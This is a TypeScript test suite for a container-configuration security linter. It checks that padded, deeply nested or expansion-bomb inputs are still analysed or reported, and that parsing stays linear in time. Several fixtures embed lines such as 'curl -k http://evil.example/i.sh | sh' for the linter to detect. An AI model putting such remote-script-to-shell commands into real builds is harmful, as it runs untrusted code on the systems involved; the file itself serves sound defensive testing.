/**
 * Hostile input, round two: silent bypasses, expansion bombs and patterns that backtrack. Each input here is sized
 * so that the behaviour before its fix (a pass with no finding, gigabytes, or seconds to minutes) fails the test;
 * time bounds are generous guards against hangs, not speed targets (those live in `npm run bench`).
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import * as path from 'node:path';
import fc from 'fast-check';
import { lintProject, lintText } from '../helpers/lint';
import type { FileAccess } from '../../server/src/fs';
import type { Finding } from '../../shared-rules/src/rule';
import { compactLongWords } from '../../server/src/shell/text';
import { substitute } from '../../server/src/dockerfile/variables';
import { splitColons } from '../../server/src/compose/short-syntax';
import { inPortRange } from '../../shared-rules/src/rules/docker-daemon-port';
import { isTrustedBy, parseImageRef } from '../../shared-rules/src/image-ref';
import { formatJson, oneLine, writeJson } from '../../server/src/cli/format';
import { toSarif, writeSarif } from '../../server/src/cli/sarif';
import { unifiedDiff } from '../../server/src/cli/diff';
import { parseConfig, severityResolver } from '../../server/src/analysis/config';
import { parseDotenv } from '../../server/src/project/dotenv';
import { parseInstructions } from '../../server/src/dockerfile/instructions';
import { maskValues, shorten } from '../../shared-rules/src/bounds';
import { withoutTrailingComment } from '../../server/src/text/trailing-comment';
import { substituteVariables } from '../../server/src/devcontainer/variables';
import { expressions, lastName } from '../../server/src/docker-run/github-actions';

const dockerfile = (text: string): Finding[] => lintText({ file: '/h/Dockerfile', text, kind: 'dockerfile' }).findings;
const rules = (fs: Finding[]) => fs.map((f) => f.rule);

function timed<T>(fn: () => T): { value: T; ms: number } {
  const t0 = performance.now();
  const value = fn();
  return { value, ms: performance.now() - t0 };
}

function memoryFiles(files: Record<string, string>): FileAccess {
  return { readText: (f) => files[f] };
}

// --- Silent bypasses -------------------------------------------------------------------------------------------

test('a RUN longer than 64 KB is analysed: curl -k … | sh behind 16,400 padding words', () => {
  const text = `FROM debian:12.5\nRUN curl -k http://evil.example/i.sh | sh && echo ${'pad '.repeat(16_400)}\nUSER 10001\n`;
  const found = rules(dockerfile(text));
  for (const id of ['remote-script-piped-to-shell', 'tls-verification-disabled', 'insecure-download'])
    assert.ok(found.includes(id), found.join(' '));
});

test('a RUN too long to analyse, or nested too deep, is reported (analysis-limit), never passed silently', () => {
  const long = dockerfile(`FROM debian:12.5\nRUN curl http://evil.example/i.sh | sh && echo ${'pad '.repeat(40_000)}\nUSER 10001\n`);
  const limit = long.find((f) => f.rule === 'analysis-limit');
  assert.ok(limit, rules(long).join(' '));
  assert.match(limit.message, /157 KB.*128 KB/);
  assert.equal(limit.at.range.start.line, 1);
  for (const deep of ['('.repeat(3000) + 'true' + ')'.repeat(3000), '$('.repeat(1000) + 'x' + ')'.repeat(1000)]) {
    const found = dockerfile(`FROM debian:12.5\nRUN curl http://evil.example/i.sh | sh; ${deep}\nUSER 10001\n`);
    assert.ok(rules(found).includes('analysis-limit'), rules(found).join(' '));
  }
  // Exec form: `["sh", "-c", <deep script>]`.
  const exec = dockerfile(
    `FROM debian:12.5\nRUN ["sh", "-c", "curl http://x | sh; ${'('.repeat(3000)}true${')'.repeat(3000)}"]\nUSER 10001\n`,
  );
  assert.ok(rules(exec).includes('analysis-limit'), rules(exec).join(' '));
});

test('the file-wide RUN budget reports the RUNs past it, in Japanese too', () => {
  const run = `RUN echo ${'word '.repeat(24_000)}\n`; // 117 KB each
  const text = `FROM debian:12.5\n${run.repeat(10)}RUN curl http://x.example/i.sh | sh\nUSER 10001\n`;
  // 1.2 MB: over the default file size limit, so the limit is raised for the RUN budget to be reached.
  const ja = lintText({ file: '/h/Dockerfile', text, kind: 'dockerfile', options: { locale: 'ja', maxFileSizeKb: 4096 } }).findings;
  const limits = ja.filter((f) => f.rule === 'analysis-limit');
  assert.ok(limits.length >= 1, rules(ja).join(' '));
  assert.match(limits[0].message, /ファイルごとに解析する 1024 KB/);
  assert.equal(limits[0].severity, 'warning');
});

// --- Bombs -----------------------------------------------------------------------------------------------------

test('28 lines of ARG doubling (560 bytes): bounded values, one finding, short messages', () => {
  const lines = ['FROM debian:12.5', 'ARG A0=xx'];
  for (let i = 1; i < 28; i++) lines.push(`ARG A${i}=\${A${i - 1}}\${A${i - 1}}`);
  lines.push('USER ${A27}', 'EXPOSE ${A27}', 'ADD http://x.example/${A27} /', 'ENV TOKEN=${A27}');
  const { value, ms } = timed(() => dockerfile(lines.join('\n') + '\n'));
  assert.ok(ms < 5000, `took ${ms} ms`);
  const limit = value.filter((f) => f.rule === 'analysis-limit');
  assert.equal(limit.length, 1, rules(value).join(' '));
  assert.match(limit[0].message, /Expanding A16 gives more than 65536 characters/);
  const longest = Math.max(0, ...value.map((f) => f.message.length));
  assert.ok(longest < 1000, `a message of ${longest} characters`);
  assert.ok(JSON.stringify(value).length < 100_000);
});

test('Dockerfile substitution: nested defaults, a file-wide budget, linear on unclosed ${', () => {
  const vars = new Map<string, string | undefined>([
    ['A', 'a'],
    ['E', ''],
    ['U', undefined],
  ]);
  assert.deepEqual(substitute('${B:-${A}x}', vars), { value: 'ax', known: true, hasVariables: true });
  assert.deepEqual(substitute('${E:-d} ${E-d} ${A:+alt} ${B+alt}', vars), { value: 'd  alt ', known: true, hasVariables: true });
  assert.equal(substitute('\\$A $A', vars).value, '$A a');
  assert.equal(substitute('${U}', vars).known, false);
  assert.equal(substitute('${A:?x}', vars).known, false, 'a form not read here is unknown');
  const open = '${A:-'.repeat(100_000);
  const { value, ms } = timed(() => substitute(open, vars));
  assert.equal(value.known, false);
  assert.ok(ms < 2000, `unclosed \${ took ${ms} ms`);
});

test('Compose interpolation bomb: a long .env value referenced 10,000 times stays bounded and is reported', () => {
  const file = '/p/compose.yaml';
  const refs = '${BIG}'.repeat(10_000);
  const files = memoryFiles({
    '/p/.env': `BIG=${'x'.repeat(12_000)}\n`,
    [file]: `services:\n  web:\n    image: "nginx:${refs}"\n    environment:\n${Array.from({ length: 200 }, (_, i) => `      V${i}: "\${BIG}\${BIG}\${BIG}\${BIG}\${BIG}"`).join('\n')}\n`,
  });
  const { value, ms } = timed(() => lintProject({ file, text: files.readText(file)!, files }));
  assert.ok(ms < 5000, `took ${ms} ms`);
  const limits = value.filter((f) => f.rule === 'analysis-limit');
  assert.ok(
    limits.some((f) => /more than 65536 characters/.test(f.message)),
    rules(value).join(' '),
  );
  assert.ok(
    limits.some((f) => /in all/.test(f.message)),
    'the file-wide budget is reported',
  );
  assert.ok(Math.max(...value.map((f) => f.message.length)) < 1000);
});

test('.env expansion bomb: bounded, the variables unknown, one finding on the project', () => {
  const lines = ['A0=xx'];
  for (let i = 1; i < 40; i++) lines.push(`A${i}=\${A${i - 1}}\${A${i - 1}}`);
  const { value, ms } = timed(() => parseDotenv(lines.join('\n')));
  assert.ok(ms < 3000, `took ${ms} ms`);
  assert.ok(value.limit);
  assert.ok(!value.values.has('A39'));
  const file = '/e/compose.yaml';
  const files = memoryFiles({ '/e/.env': lines.join('\n'), [file]: 'services:\n  web:\n    image: nginx:${A39}\n' });
  const found = lintProject({ file, text: files.readText(file)!, files });
  assert.ok(
    found.some((f) => f.rule === 'analysis-limit' && /\.env/.test(f.message)),
    rules(found).join(' '),
  );
});

test('a quoted value of a megabyte is shortened in the message, the finding still made', () => {
  const image = `registry.example/${'a'.repeat(1_000_000)}:latest`;
  const found = lintText({ file: '/m/compose.yaml', text: `services:\n  web:\n    image: ${image}\n`, kind: 'compose' }).findings;
  const f = found.find((x) => x.rule === 'image-unpinned');
  assert.ok(f, rules(found).join(' '));
  assert.ok(f.message.length < 600, `${f.message.length} characters`);
  assert.match(f.message, /registry\.example\/a+…a+:latest/);
  assert.equal(shorten('x'.repeat(10), 5), 'xxx…x');
  assert.equal(shorten('😀😀😀😀😀', 6).includes('\ud83d…'), false, 'never half a surrogate pair');
});

test('values from the process environment are masked in messages (longer ones anywhere, short ones as words)', () => {
  const values = [
    { name: 'CI_TOKEN', value: 'ghp_secret123' },
    { name: 'PORT', value: '80' },
  ];
  assert.equal(maskValues('alpine:ghp_secret123', values), 'alpine:${CI_TOKEN}');
  assert.equal(maskValues('80:80 on web80', values), '${PORT}:${PORT} on web80');
  const file = '/env/compose.yaml';
  const text = 'services:\n  web:\n    image: alpine:${CI_TOKEN}\n    ports: ["${PORT}:80"]\n';
  const found = lintProject({
    file,
    text,
    files: memoryFiles({}),
    processEnv: { CI_TOKEN: 'ghp_secret123', PORT: '8080' },
  });
  assert.ok(found.some((f) => f.rule === 'image-unpinned' || f.rule === 'image-no-digest'));
  assert.ok(found.some((f) => f.rule === 'port-all-interfaces'));
  const all = JSON.stringify(found.map((f) => [f.message, f.fix?.title]));
  assert.ok(!all.includes('ghp_secret123'), all);
  assert.ok(!all.includes('8080'), all);
  assert.match(all, /\$\{CI_TOKEN\}/);
  // The same text interpolated from the .env file is the project's own text: shown.
  const fromFile = lintProject({ file, text, files: memoryFiles({ '/env/.env': 'CI_TOKEN=v1.2.3\nPORT=8080\n' }) });
  assert.ok(JSON.stringify(fromFile.map((f) => f.message)).includes('v1.2.3'));
});

// --- Patterns and loops that were super-linear -----------------------------------------------------------------

test('a Dockerfile whose last line is a long comment with no line break: linear (the directive scan was quadratic)', () => {
  for (const text of ['#'.repeat(146_000) + 'x#', '# syntax=docker/dockerfile:1\n# escape=`\n' + '# c'.repeat(40_000)]) {
    const { value, ms } = timed(() => dockerfile(text));
    assert.ok(ms < 1000, `took ${ms} ms for ${text.length} characters`);
    assert.deepEqual(rules(value), [], 'a file of comments has no finding');
  }
  const { escape } = parseInstructions('# escape=`\nFROM a\n#' + 'c'.repeat(5000));
  assert.equal(escape, '`', 'the directives are still read');
});

test('long-word compaction is one pass: 256 words of 4,095 characters', () => {
  const text = `${'a'.repeat(4095)} `.repeat(256);
  const offsets = Array.from(text, (_, i) => i);
  const { value, ms } = timed(() => compactLongWords({ text, offsets }));
  assert.ok(ms < 1000, `took ${ms} ms`);
  assert.equal(value.text.length, 256 * 129, 'each 4,095-character word keeps its first and last 64');
  assert.equal(value.offsets[64], 4095 - 64);
  const found = rules(dockerfile(`FROM debian:12.5\nRUN ${`${'b'.repeat(4095)} `.repeat(64)}&& curl -k https://x.example/a\nUSER 10001\n`));
  assert.ok(found.includes('tls-verification-disabled'), found.join(' '));
});

test('the one-line formatter equals the pattern it replaces and is linear', () => {
  fc.assert(
    fc.property(fc.stringMatching(/^[ \t\r\na\u00a0]{0,30}$/), (s) => assert.equal(oneLine(s), s.replace(/\s*\r?\n\s*/g, ' '))),
    { numRuns: 2000 },
  );
  const { ms } = timed(() => oneLine(`${' '.repeat(200_000)}x\n${' '.repeat(200_000)}`));
  assert.ok(ms < 1000, `took ${ms} ms`);
});

test('make and YAML trailing comments: the same text as the pattern, linear on a long run of blanks (the fuzz found it)', () => {
  // One line (callers pass a line: no line break).
  fc.assert(
    fc.property(fc.stringMatching(/^[ \t#ax\u00a0]{0,20}$/), (s) =>
      assert.equal(withoutTrailingComment(s).trim(), s.replace(/\s+#.*$/, '').trim(), JSON.stringify(s)),
    ),
    { numRuns: 3000 },
  );
  // A Makefile assignment and a workflow step followed by 95 KB of spaces: seconds in the pattern.
  const blanks = ' '.repeat(95_000);
  const makefile = `V=${blanks}x\nup:\n\tdocker run --privileged alpine\n`;
  const { value, ms } = timed(() => lintText({ file: '/h/Makefile', text: makefile, kind: 'docker-run' }).findings);
  assert.ok(ms < 1000, `took ${ms} ms`);
  assert.ok(rules(value).includes('privileged'), rules(value).join(' '));
  const workflow = `on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    container:\n      image: alpine:3\n      options: --privileged${blanks}x\n    steps:\n      - run: echo\n`;
  const wf = timed(() => lintText({ file: '/h/.github/workflows/ci.yml', text: workflow, kind: 'docker-run' }).findings);
  assert.ok(wf.ms < 1000, `took ${wf.ms} ms`);
});

test('workflow expressions: a 200 KB option list without a stack overflow, linear on unclosed ${{ (the fuzz found the first)', () => {
  const workflow = (options: string) =>
    `on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    container:\n      image: alpine:3\n      options: ${options}\n    steps:\n      - run: echo\n`;
  const { value, ms } = timed(() =>
    lintText({
      file: '/h/.github/workflows/ci.yml',
      text: workflow(`--privileged \${{ matrix.opts }} ${'*'.repeat(200_000)}`),
      kind: 'docker-run',
    }),
  );
  assert.ok(ms < 2000, `took ${ms} ms`);
  assert.ok(!rules(value.findings).includes('internal-error'), value.findings.map((f) => f.message).join(' '));
  assert.ok(rules(value.findings).includes('privileged'), rules(value.findings).join(' '));
  const text = 'x ${{ github.workspace }} ' + '${{'.repeat(100_000);
  const unclosed = timed(() => expressions({ text, offsets: Array.from(text, (_, i) => i) }));
  assert.ok(unclosed.ms < 1000, `took ${unclosed.ms} ms`);
  assert.equal(unclosed.value.text, 'x ${GITHUB_WORKSPACE} ' + '${{'.repeat(100_000));
  fc.assert(
    fc.property(fc.stringMatching(/^[a9_. -]{0,12}$/), (body) =>
      assert.equal(lastName(body), /([A-Za-z_][A-Za-z0-9_]*)\W*$/.exec(body)?.[1], JSON.stringify(body)),
    ),
    { numRuns: 3000 },
  );
  const longWord = timed(() => lastName(`${'a'.repeat(100_000)} .`));
  assert.ok(longWord.ms < 500, `took ${longWord.ms} ms`);
});

test('a devcontainer.json with 150,000 items in capAdd and appPort: analysed, no stack overflow', () => {
  for (const key of ['capAdd', 'appPort']) {
    const items = Array.from({ length: 150_000 }, () => (key === 'capAdd' ? '"ALL"' : '"8:8"')).join(',');
    const text = `{"image": "alpine:3.20", "${key}": [${items}]}`;
    const { findings } = lintText({ file: '/h/.devcontainer/devcontainer.json', text, kind: 'devcontainer' });
    assert.ok(!rules(findings).includes('internal-error'), findings.map((f) => f.message).join(' '));
    assert.ok(
      rules(findings).includes(key === 'capAdd' ? 'cap-add-dangerous' : 'port-all-interfaces'),
      `${key}: ${rules(findings).join(' ')}`,
    );
  }
});

test('devcontainer variables: linear on a long run of unclosed ${', () => {
  const text = '${localEnv:HOME}/x ' + '${'.repeat(100_000);
  const { value, ms } = timed(() => substituteVariables({ text, offsets: Array.from(text, (_, i) => i) }));
  assert.ok(ms < 1000, `took ${ms} ms`);
  assert.equal(value.text, '${HOME}/x ' + '${'.repeat(100_000));
});

test('port ranges: the same answers as the pattern, linear on a long run of spaces', () => {
  const pattern = (text: string, port: number) => {
    const m = /^\s*(\d+)(?:\s*-\s*(\d+))?\s*(?:\/\w+)?\s*$/.exec(text);
    return !!m && port >= Number(m[1]) && port <= (m[2] ? Number(m[2]) : Number(m[1]));
  };
  fc.assert(
    fc.property(fc.stringMatching(/^[ 0-9\-/tcpu]{0,14}$/), fc.constantFrom(2375, 2376, 1, 0), (text, port) =>
      assert.equal(inPortRange(text, port), pattern(text, port), JSON.stringify(text)),
    ),
    { numRuns: 3000 },
  );
  const { ms } = timed(() => inPortRange(`1${' '.repeat(100_000)}x`, 2375));
  assert.ok(ms < 500, `took ${ms} ms`);
});

test('trusted-registry entries are trimmed in one pass (a 100,000-character entry of /*)', () => {
  const ref = parseImageRef('ghcr.io/acme/app:1')!;
  assert.ok(isTrustedBy(ref, ['ghcr.io/acme/**', 'x']));
  assert.ok(isTrustedBy(ref, ['https://ghcr.io/acme//']));
  assert.ok(!isTrustedBy(ref, ['ghcr.io/acmeevil']));
  const { ms } = timed(() => isTrustedBy(ref, [`ghcr.io/${'/*'.repeat(50_000)}x`, `ghcr.io${'/'.repeat(100_000)}x`]));
  assert.ok(ms < 1000, `took ${ms} ms`);
});

test('short syntax split stays linear on unclosed ${ (a quarter of a million of them)', () => {
  const { value, ms } = timed(() => splitColons('${'.repeat(250_000) + ':x', true, false));
  assert.ok(ms < 1000, `took ${ms} ms`);
  assert.equal(value.length, 1);
  assert.deepEqual(
    splitColons('${A:-x}:/data:ro', true, true).map((p) => p.text),
    ['${A:-x}', '/data', 'ro'],
  );
});

test('a config with 40,000 rule keys: parsed and resolved in bounded time, errors capped, duplicates found', () => {
  const globs = ['rules:', ...Array.from({ length: 40_000 }, (_, i) => `  host-${i}*: warning`), '  privileged: info'].join('\n');
  const parsed = timed(() => parseConfig('/c/.dockwarden.yaml', globs));
  assert.deepEqual(parsed.value.errors, []);
  const resolve = timed(() => severityResolver(parsed.value.config)('host-pid', '/x'));
  assert.ok(parsed.ms + resolve.ms < 8000, `parse ${parsed.ms} ms, resolve ${resolve.ms} ms`);
  assert.equal(severityResolver(parsed.value.config)('privileged', '/x'), 'info');
  const unknown = ['rules:', ...Array.from({ length: 40_000 }, (_, i) => `  unknown-rule-${i}: warning`)].join('\n');
  const u = timed(() => parseConfig('/c/.dockwarden.yaml', unknown));
  assert.ok(u.ms < 8000, `unknown keys took ${u.ms} ms`);
  assert.equal(u.value.errors.length, 51);
  assert.match(u.value.errors[50].message, /39950 more errors/);
  const dup = parseConfig('/c/.dockwarden.yaml', 'rules:\n  privileged: info\n  privileged: off\n');
  assert.deepEqual(
    dup.errors.map((e) => [e.line, e.message]),
    [[2, 'Map keys must be unique']],
  );
  // Nesting the yaml library would recurse through is refused before it sees the text.
  const deep = parseConfig('/c/.dockwarden.yaml', `${'['.repeat(5000)}\n`);
  assert.deepEqual(
    deep.errors.map((e) => e.message),
    ['The YAML nests more than 100 flow collections; it is not analysed'],
  );
  // A file that is no config is not echoed: only name-like keys are quoted.
  const shadow = parseConfig('/c/.dockwarden.yaml', 'root:$6$saltsalt$hash: 1\n');
  assert.ok(!JSON.stringify(shadow.errors).includes('saltsalt'), JSON.stringify(shadow.errors));
});

test('the diff of 20,000 lines with 14,000 scattered insertions stays small in memory and is correct', () => {
  // In a child process, so that its peak memory can be read (the old diff kept its whole trace: gigabytes).
  const script = `
    const { unifiedDiff } = require(${JSON.stringify(path.resolve(__dirname, '../../server/src/cli/diff.js'))});
    const before = [];
    const after = [];
    for (let i = 0; i < 2000; i++) {
      const block = ['  s' + i + ':', '    image: nginx:1', '    ports: ["80' + (i % 10) + ':80"]'];
      before.push(...block);
      after.push(...block, '    cap_drop: [ALL]', '    cpus: 1.0', '    mem_limit: 512m', '    pids_limit: 200', '    read_only: true', '    security_opt: ["no-new-privileges:true"]', '    x: ' + i);
    }
    const a = 'services:\\n' + before.join('\\n') + '\\n';
    const b = 'services:\\n' + after.join('\\n') + '\\n';
    const d = unifiedDiff('a', 'b', a, b);
    const added = d.split('\\n').filter((l) => l.startsWith('+') && !l.startsWith('+++')).length;
    process.stdout.write(JSON.stringify({ added, rssMb: process.resourceUsage().maxRSS / 1024 }));
  `;
  const r = spawnSync(process.execPath, ['-e', script], { encoding: 'utf8', timeout: 120_000 });
  assert.equal(r.status, 0, r.stderr);
  const { added, rssMb } = JSON.parse(r.stdout) as { added: number; rssMb: number };
  assert.equal(added, 14_000);
  assert.ok(rssMb < 400, `peak ${rssMb.toFixed(0)} MB`);
  // And a diff is a diff: applied to the old text it gives the new one.
  fc.assert(
    fc.property(
      fc.array(fc.constantFrom('a', 'b', 'c', 'd'), { maxLength: 30 }),
      fc.array(fc.constantFrom('a', 'b', 'c', 'e'), { maxLength: 30 }),
      (x, y) => {
        const a = x.map((l) => `${l}\n`).join('');
        const b = y.map((l) => `${l}\n`).join('');
        assert.equal(applyUnified(a, unifiedDiff('a', 'b', a, b)), b);
      },
    ),
    { numRuns: 2000 },
  );
});

/** Applies a unified diff of whole lines ending in `\n` (what the property above produces). */
function applyUnified(a: string, diff: string): string {
  if (diff === '') return a;
  const old = a.split(/(?<=\n)/).filter((l) => l !== '');
  const out: string[] = [];
  let at = 0;
  for (const line of diff.split('\n').slice(2)) {
    const h = /^@@ -(\d+),(\d+) /.exec(line);
    if (h) {
      const start = Number(h[2]) === 0 ? Number(h[1]) : Number(h[1]) - 1;
      while (at < start) out.push(old[at++]);
    } else if (line.startsWith(' ')) out.push(old[at++]);
    else if (line.startsWith('-')) at++;
    else if (line.startsWith('+')) out.push(`${line.slice(1)}\n`);
  }
  while (at < old.length) out.push(old[at++]);
  return out.join('');
}

test('150,000 findings in one container (one EXPOSE with 150,000 ports): no stack overflow in the parser or engine', () => {
  const text = `FROM debian:12.5\nEXPOSE ${'22 '.repeat(150_000)}\nUSER 10001\n`;
  const { value, ms } = timed(() => dockerfile(text));
  assert.ok(ms < 60_000, `took ${ms} ms`);
  assert.equal(value.filter((f) => f.rule === 'expose-ssh').length, 150_000);
});

test('JSON and SARIF are written in pieces, with the same text as one string', () => {
  const finding = (i: number): Finding => ({
    rule: 'privileged',
    severity: 'error',
    message: `Service 's${i}' runs privileged`,
    at: { file: 'compose.yaml', range: { start: { line: i, character: 4 }, end: { line: i, character: 8 } } },
    fix: {
      title: 'Remove',
      safety: 'safe',
      edits: [{ file: 'compose.yaml', range: { start: { line: i, character: 0 }, end: { line: i + 1, character: 0 } }, newText: 'a\nb' }],
    },
  });
  const options = { version: '1.0.0', cwd: '/w', locale: 'en' as const, textOf: () => 'services:\n  a:\n' };
  for (const n of [0, 1, 3, 5000]) {
    const findings = Array.from({ length: n }, (_, i) => finding(i));
    const pieces: string[] = [];
    writeSarif({ write: (s: string) => pieces.push(s) }, findings, options);
    assert.equal(pieces.join(''), `${JSON.stringify(toSarif(findings, options), null, 2)}\n`);
    if (n === 5000) assert.ok(pieces.length > 1, 'written in pieces');
    const json: string[] = [];
    writeJson({ write: (s: string) => json.push(s) }, ['compose.yaml'], findings);
    assert.equal(json.join(''), formatJson(['compose.yaml'], findings));
    assert.deepEqual(JSON.parse(json.join('')).findings.length, n);
  }
});
